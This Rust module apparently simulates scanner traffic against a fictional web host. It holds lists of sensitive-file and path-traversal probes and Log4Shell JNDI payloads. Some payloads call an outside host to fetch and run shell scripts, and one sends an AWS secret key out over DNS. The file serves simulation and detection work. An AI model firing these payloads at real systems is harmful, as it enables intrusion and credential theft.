//! `exploit_probes`: what scans an exposed API estate for. Three scanners: one templated
//! scanner after private keys, config files and path traversal; one with a copied Firefox user
//! agent planting Log4Shell payloads — plain and obfuscated — in headers, parameters and the
//! sign-in body of real endpoints; one mass scanner whose user agent is the payload.

use rand::seq::{IndexedRandom, SliceRandom};
use rand::Rng;
use serde_json::json;

use super::{label, AttackOut, Ctx};
use crate::scenario::acme::{Req, WEB_HOST};
use crate::scenario::actor::Recorder;
use crate::scenario::agents::{Agent, Fetch, Tool};
use crate::scenario::client::Client;
use crate::scenario::config::{Plan, ScenarioName};
use crate::scenario::net::SCANNER_HOSTS;

/// Files whose exposure gives keys or configuration away.
pub(crate) const SENSITIVE: &[&str] = &[
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/id_rsa",
    "/.ssh/id_rsa",
    "/server.key",
    "/privatekey.pem",
    "/server.pem",
    "/cert.key",
    "/actuator/env",
    "/actuator/heapdump",
    "/.aws/credentials",
    "/config/database.yml",
    "/backup.sql",
    "/wp-config.php.bak",
    "/.DS_Store",
    "/api/.env",
    "/test/api/.env",
    "/.npmrc",
    "/docker-compose.yml",
    "/phpinfo.php",
    "/v2/api-docs",
    "/debug/pprof/",
    "/.htpasswd",
    "/web.config",
];

/// Path traversal, raw and encoded.
pub(crate) const TRAVERSAL: &[&str] = &[
    "/../../etc/passwd",
    "/static/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/static/..%2f..%2f..%2fetc%2fpasswd",
    "/api/v1/products/..%252f..%252f..%252fetc%252fpasswd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/static/..%5c..%5c..%5cwindows%5cwin.ini",
];

/// Log4Shell payloads: plain, lookups-obfuscated, and exfiltrating through DNS.
pub(crate) const LOG4SHELL: &[&str] = &[
    "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/d2dldCBodHRwOi8vNDUuMTU1LjIwNS4yMzMvbC5zaA==}",
    "${jndi:ldap://${hostName}.c6r8l3s2vtc00003g4b0gdq9beyyyyyyb.interact.sh/a}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.c6r8l3s2vtc00003g4b0gdq9beyyyyyyb.oast.fun/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://45.155.205.233:1099/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//45.155.205.233:1389/TomcatBypass/Command/Base64/Y3VybCAtcyA0NS4xNTUuMjA1LjIzMy94fHNo}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.c6r8l3s2vtc00003g4b0gdq9beyyyyyyb.dnslog.cn/a}",
    "${${upper:j}ndi:${upper:l}dap://45.155.205.233:1389/o}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://45.155.205.233:1389/Exploit}",
];

fn encode_all(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

pub(super) fn run(plan: &Plan, ctx: &mut Ctx<'_>) -> AttackOut {
    let name = ScenarioName::ExploitProbes;
    let mut rng = ctx.world.rng(name.name());
    let mut rec = Recorder::new(ctx.world, name.name(), label(name));
    let rounds = plan.scaled(3.0, 2, 100);
    let hosts: Vec<_> = SCANNER_HOSTS
        .iter()
        .filter_map(|n| ctx.alloc.take(n).map(|ip| (ip, n.country)))
        .collect();
    let (mut files, mut traversal, mut log4shell) = (0u64, 0u64, 0u64);

    // 1. The templated scanner: files and traversal, `rounds` passes in shuffled order.
    if let Some(&(ip, country)) = hosts.first() {
        let c = Client::new(ip, country, Agent::tool_as(Tool::GoHttp, "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", None));
        let mut t = plan.start_ms;
        for _ in 0..rounds {
            let mut list: Vec<&str> = SENSITIVE.iter().chain(TRAVERSAL).copied().collect();
            list.shuffle(&mut rng);
            for path in list {
                if rec.send(c.api_get(t, WEB_HOST, path, None)).is_some() {
                    if TRAVERSAL.contains(&path) {
                        traversal += 1;
                    } else {
                        files += 1;
                    }
                }
                t += rng.random_range(80..700);
            }
            let q = "/api/v1/products?file=../../../../etc/passwd";
            rec.send(c.api_get(t, WEB_HOST, q, None));
            traversal += 1;
            t += rng.random_range(5_000..40_000);
        }
    }

    // 2. Log4Shell in headers, parameters and bodies of real endpoints.
    if let Some(&(ip, country)) = hosts.get(1) {
        let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
        let base = Client::new(
            ip,
            country,
            Agent::tool_as(Tool::PythonRequests, ua, Some("en-US,en;q=0.5")),
        );
        let mut t = plan.at(0.2);
        for k in 0..rounds * 12 {
            let payload = LOG4SHELL.choose(&mut rng).copied().unwrap_or(LOG4SHELL[0]);
            let mut c = base.clone();
            let req: Req = match k % 5 {
                0 => {
                    c.creds = vec![("x-api-version", payload.to_owned())];
                    c.api_get(t, WEB_HOST, "/api/v1/products?page=1", None)
                }
                1 => c.api_get(
                    t,
                    WEB_HOST,
                    &format!("/api/v1/products?q={}", encode_all(payload)),
                    None,
                ),
                2 => {
                    c.creds = vec![("x-forwarded-for", payload.to_owned())];
                    c.api_get(t, WEB_HOST, "/", None)
                }
                3 => {
                    let body = json!({"username": payload, "password": payload});
                    c.api_post(t, WEB_HOST, "/api/v1/auth/login", &body, None)
                }
                _ => c.fetch(t, "/", Fetch::Document, Some(payload)),
            };
            if rec.send(req).is_some() {
                log4shell += 1;
            }
            t += rng.random_range(200..2_500);
        }
    }

    // 3. A mass scanner whose user agent is the payload.
    if let Some(&(ip, country)) = hosts.get(2) {
        let mut t = plan.at(0.5);
        for k in 0..rounds * 6 {
            let payload = LOG4SHELL[k % LOG4SHELL.len()];
            let c = Client::new(ip, country, Agent::tool_as(Tool::Curl, payload, None));
            let path = [
                "/",
                "/api/v1/health",
                "/login.html",
                "/partner/v1/auth/login",
            ][k % 4];
            if rec.send(c.fetch(t, path, Fetch::Document, None)).is_some() {
                log4shell += 1;
            }
            t += rng.random_range(1_000..6_000);
        }
    }
    AttackOut::new(
        vec![rec.finish()],
        &[
            ("sensitive_file_probes", files as f64),
            ("traversal_probes", traversal as f64),
            ("log4shell_probes", log4shell as f64),
            ("scanners", hosts.len() as f64),
        ],
    )
}
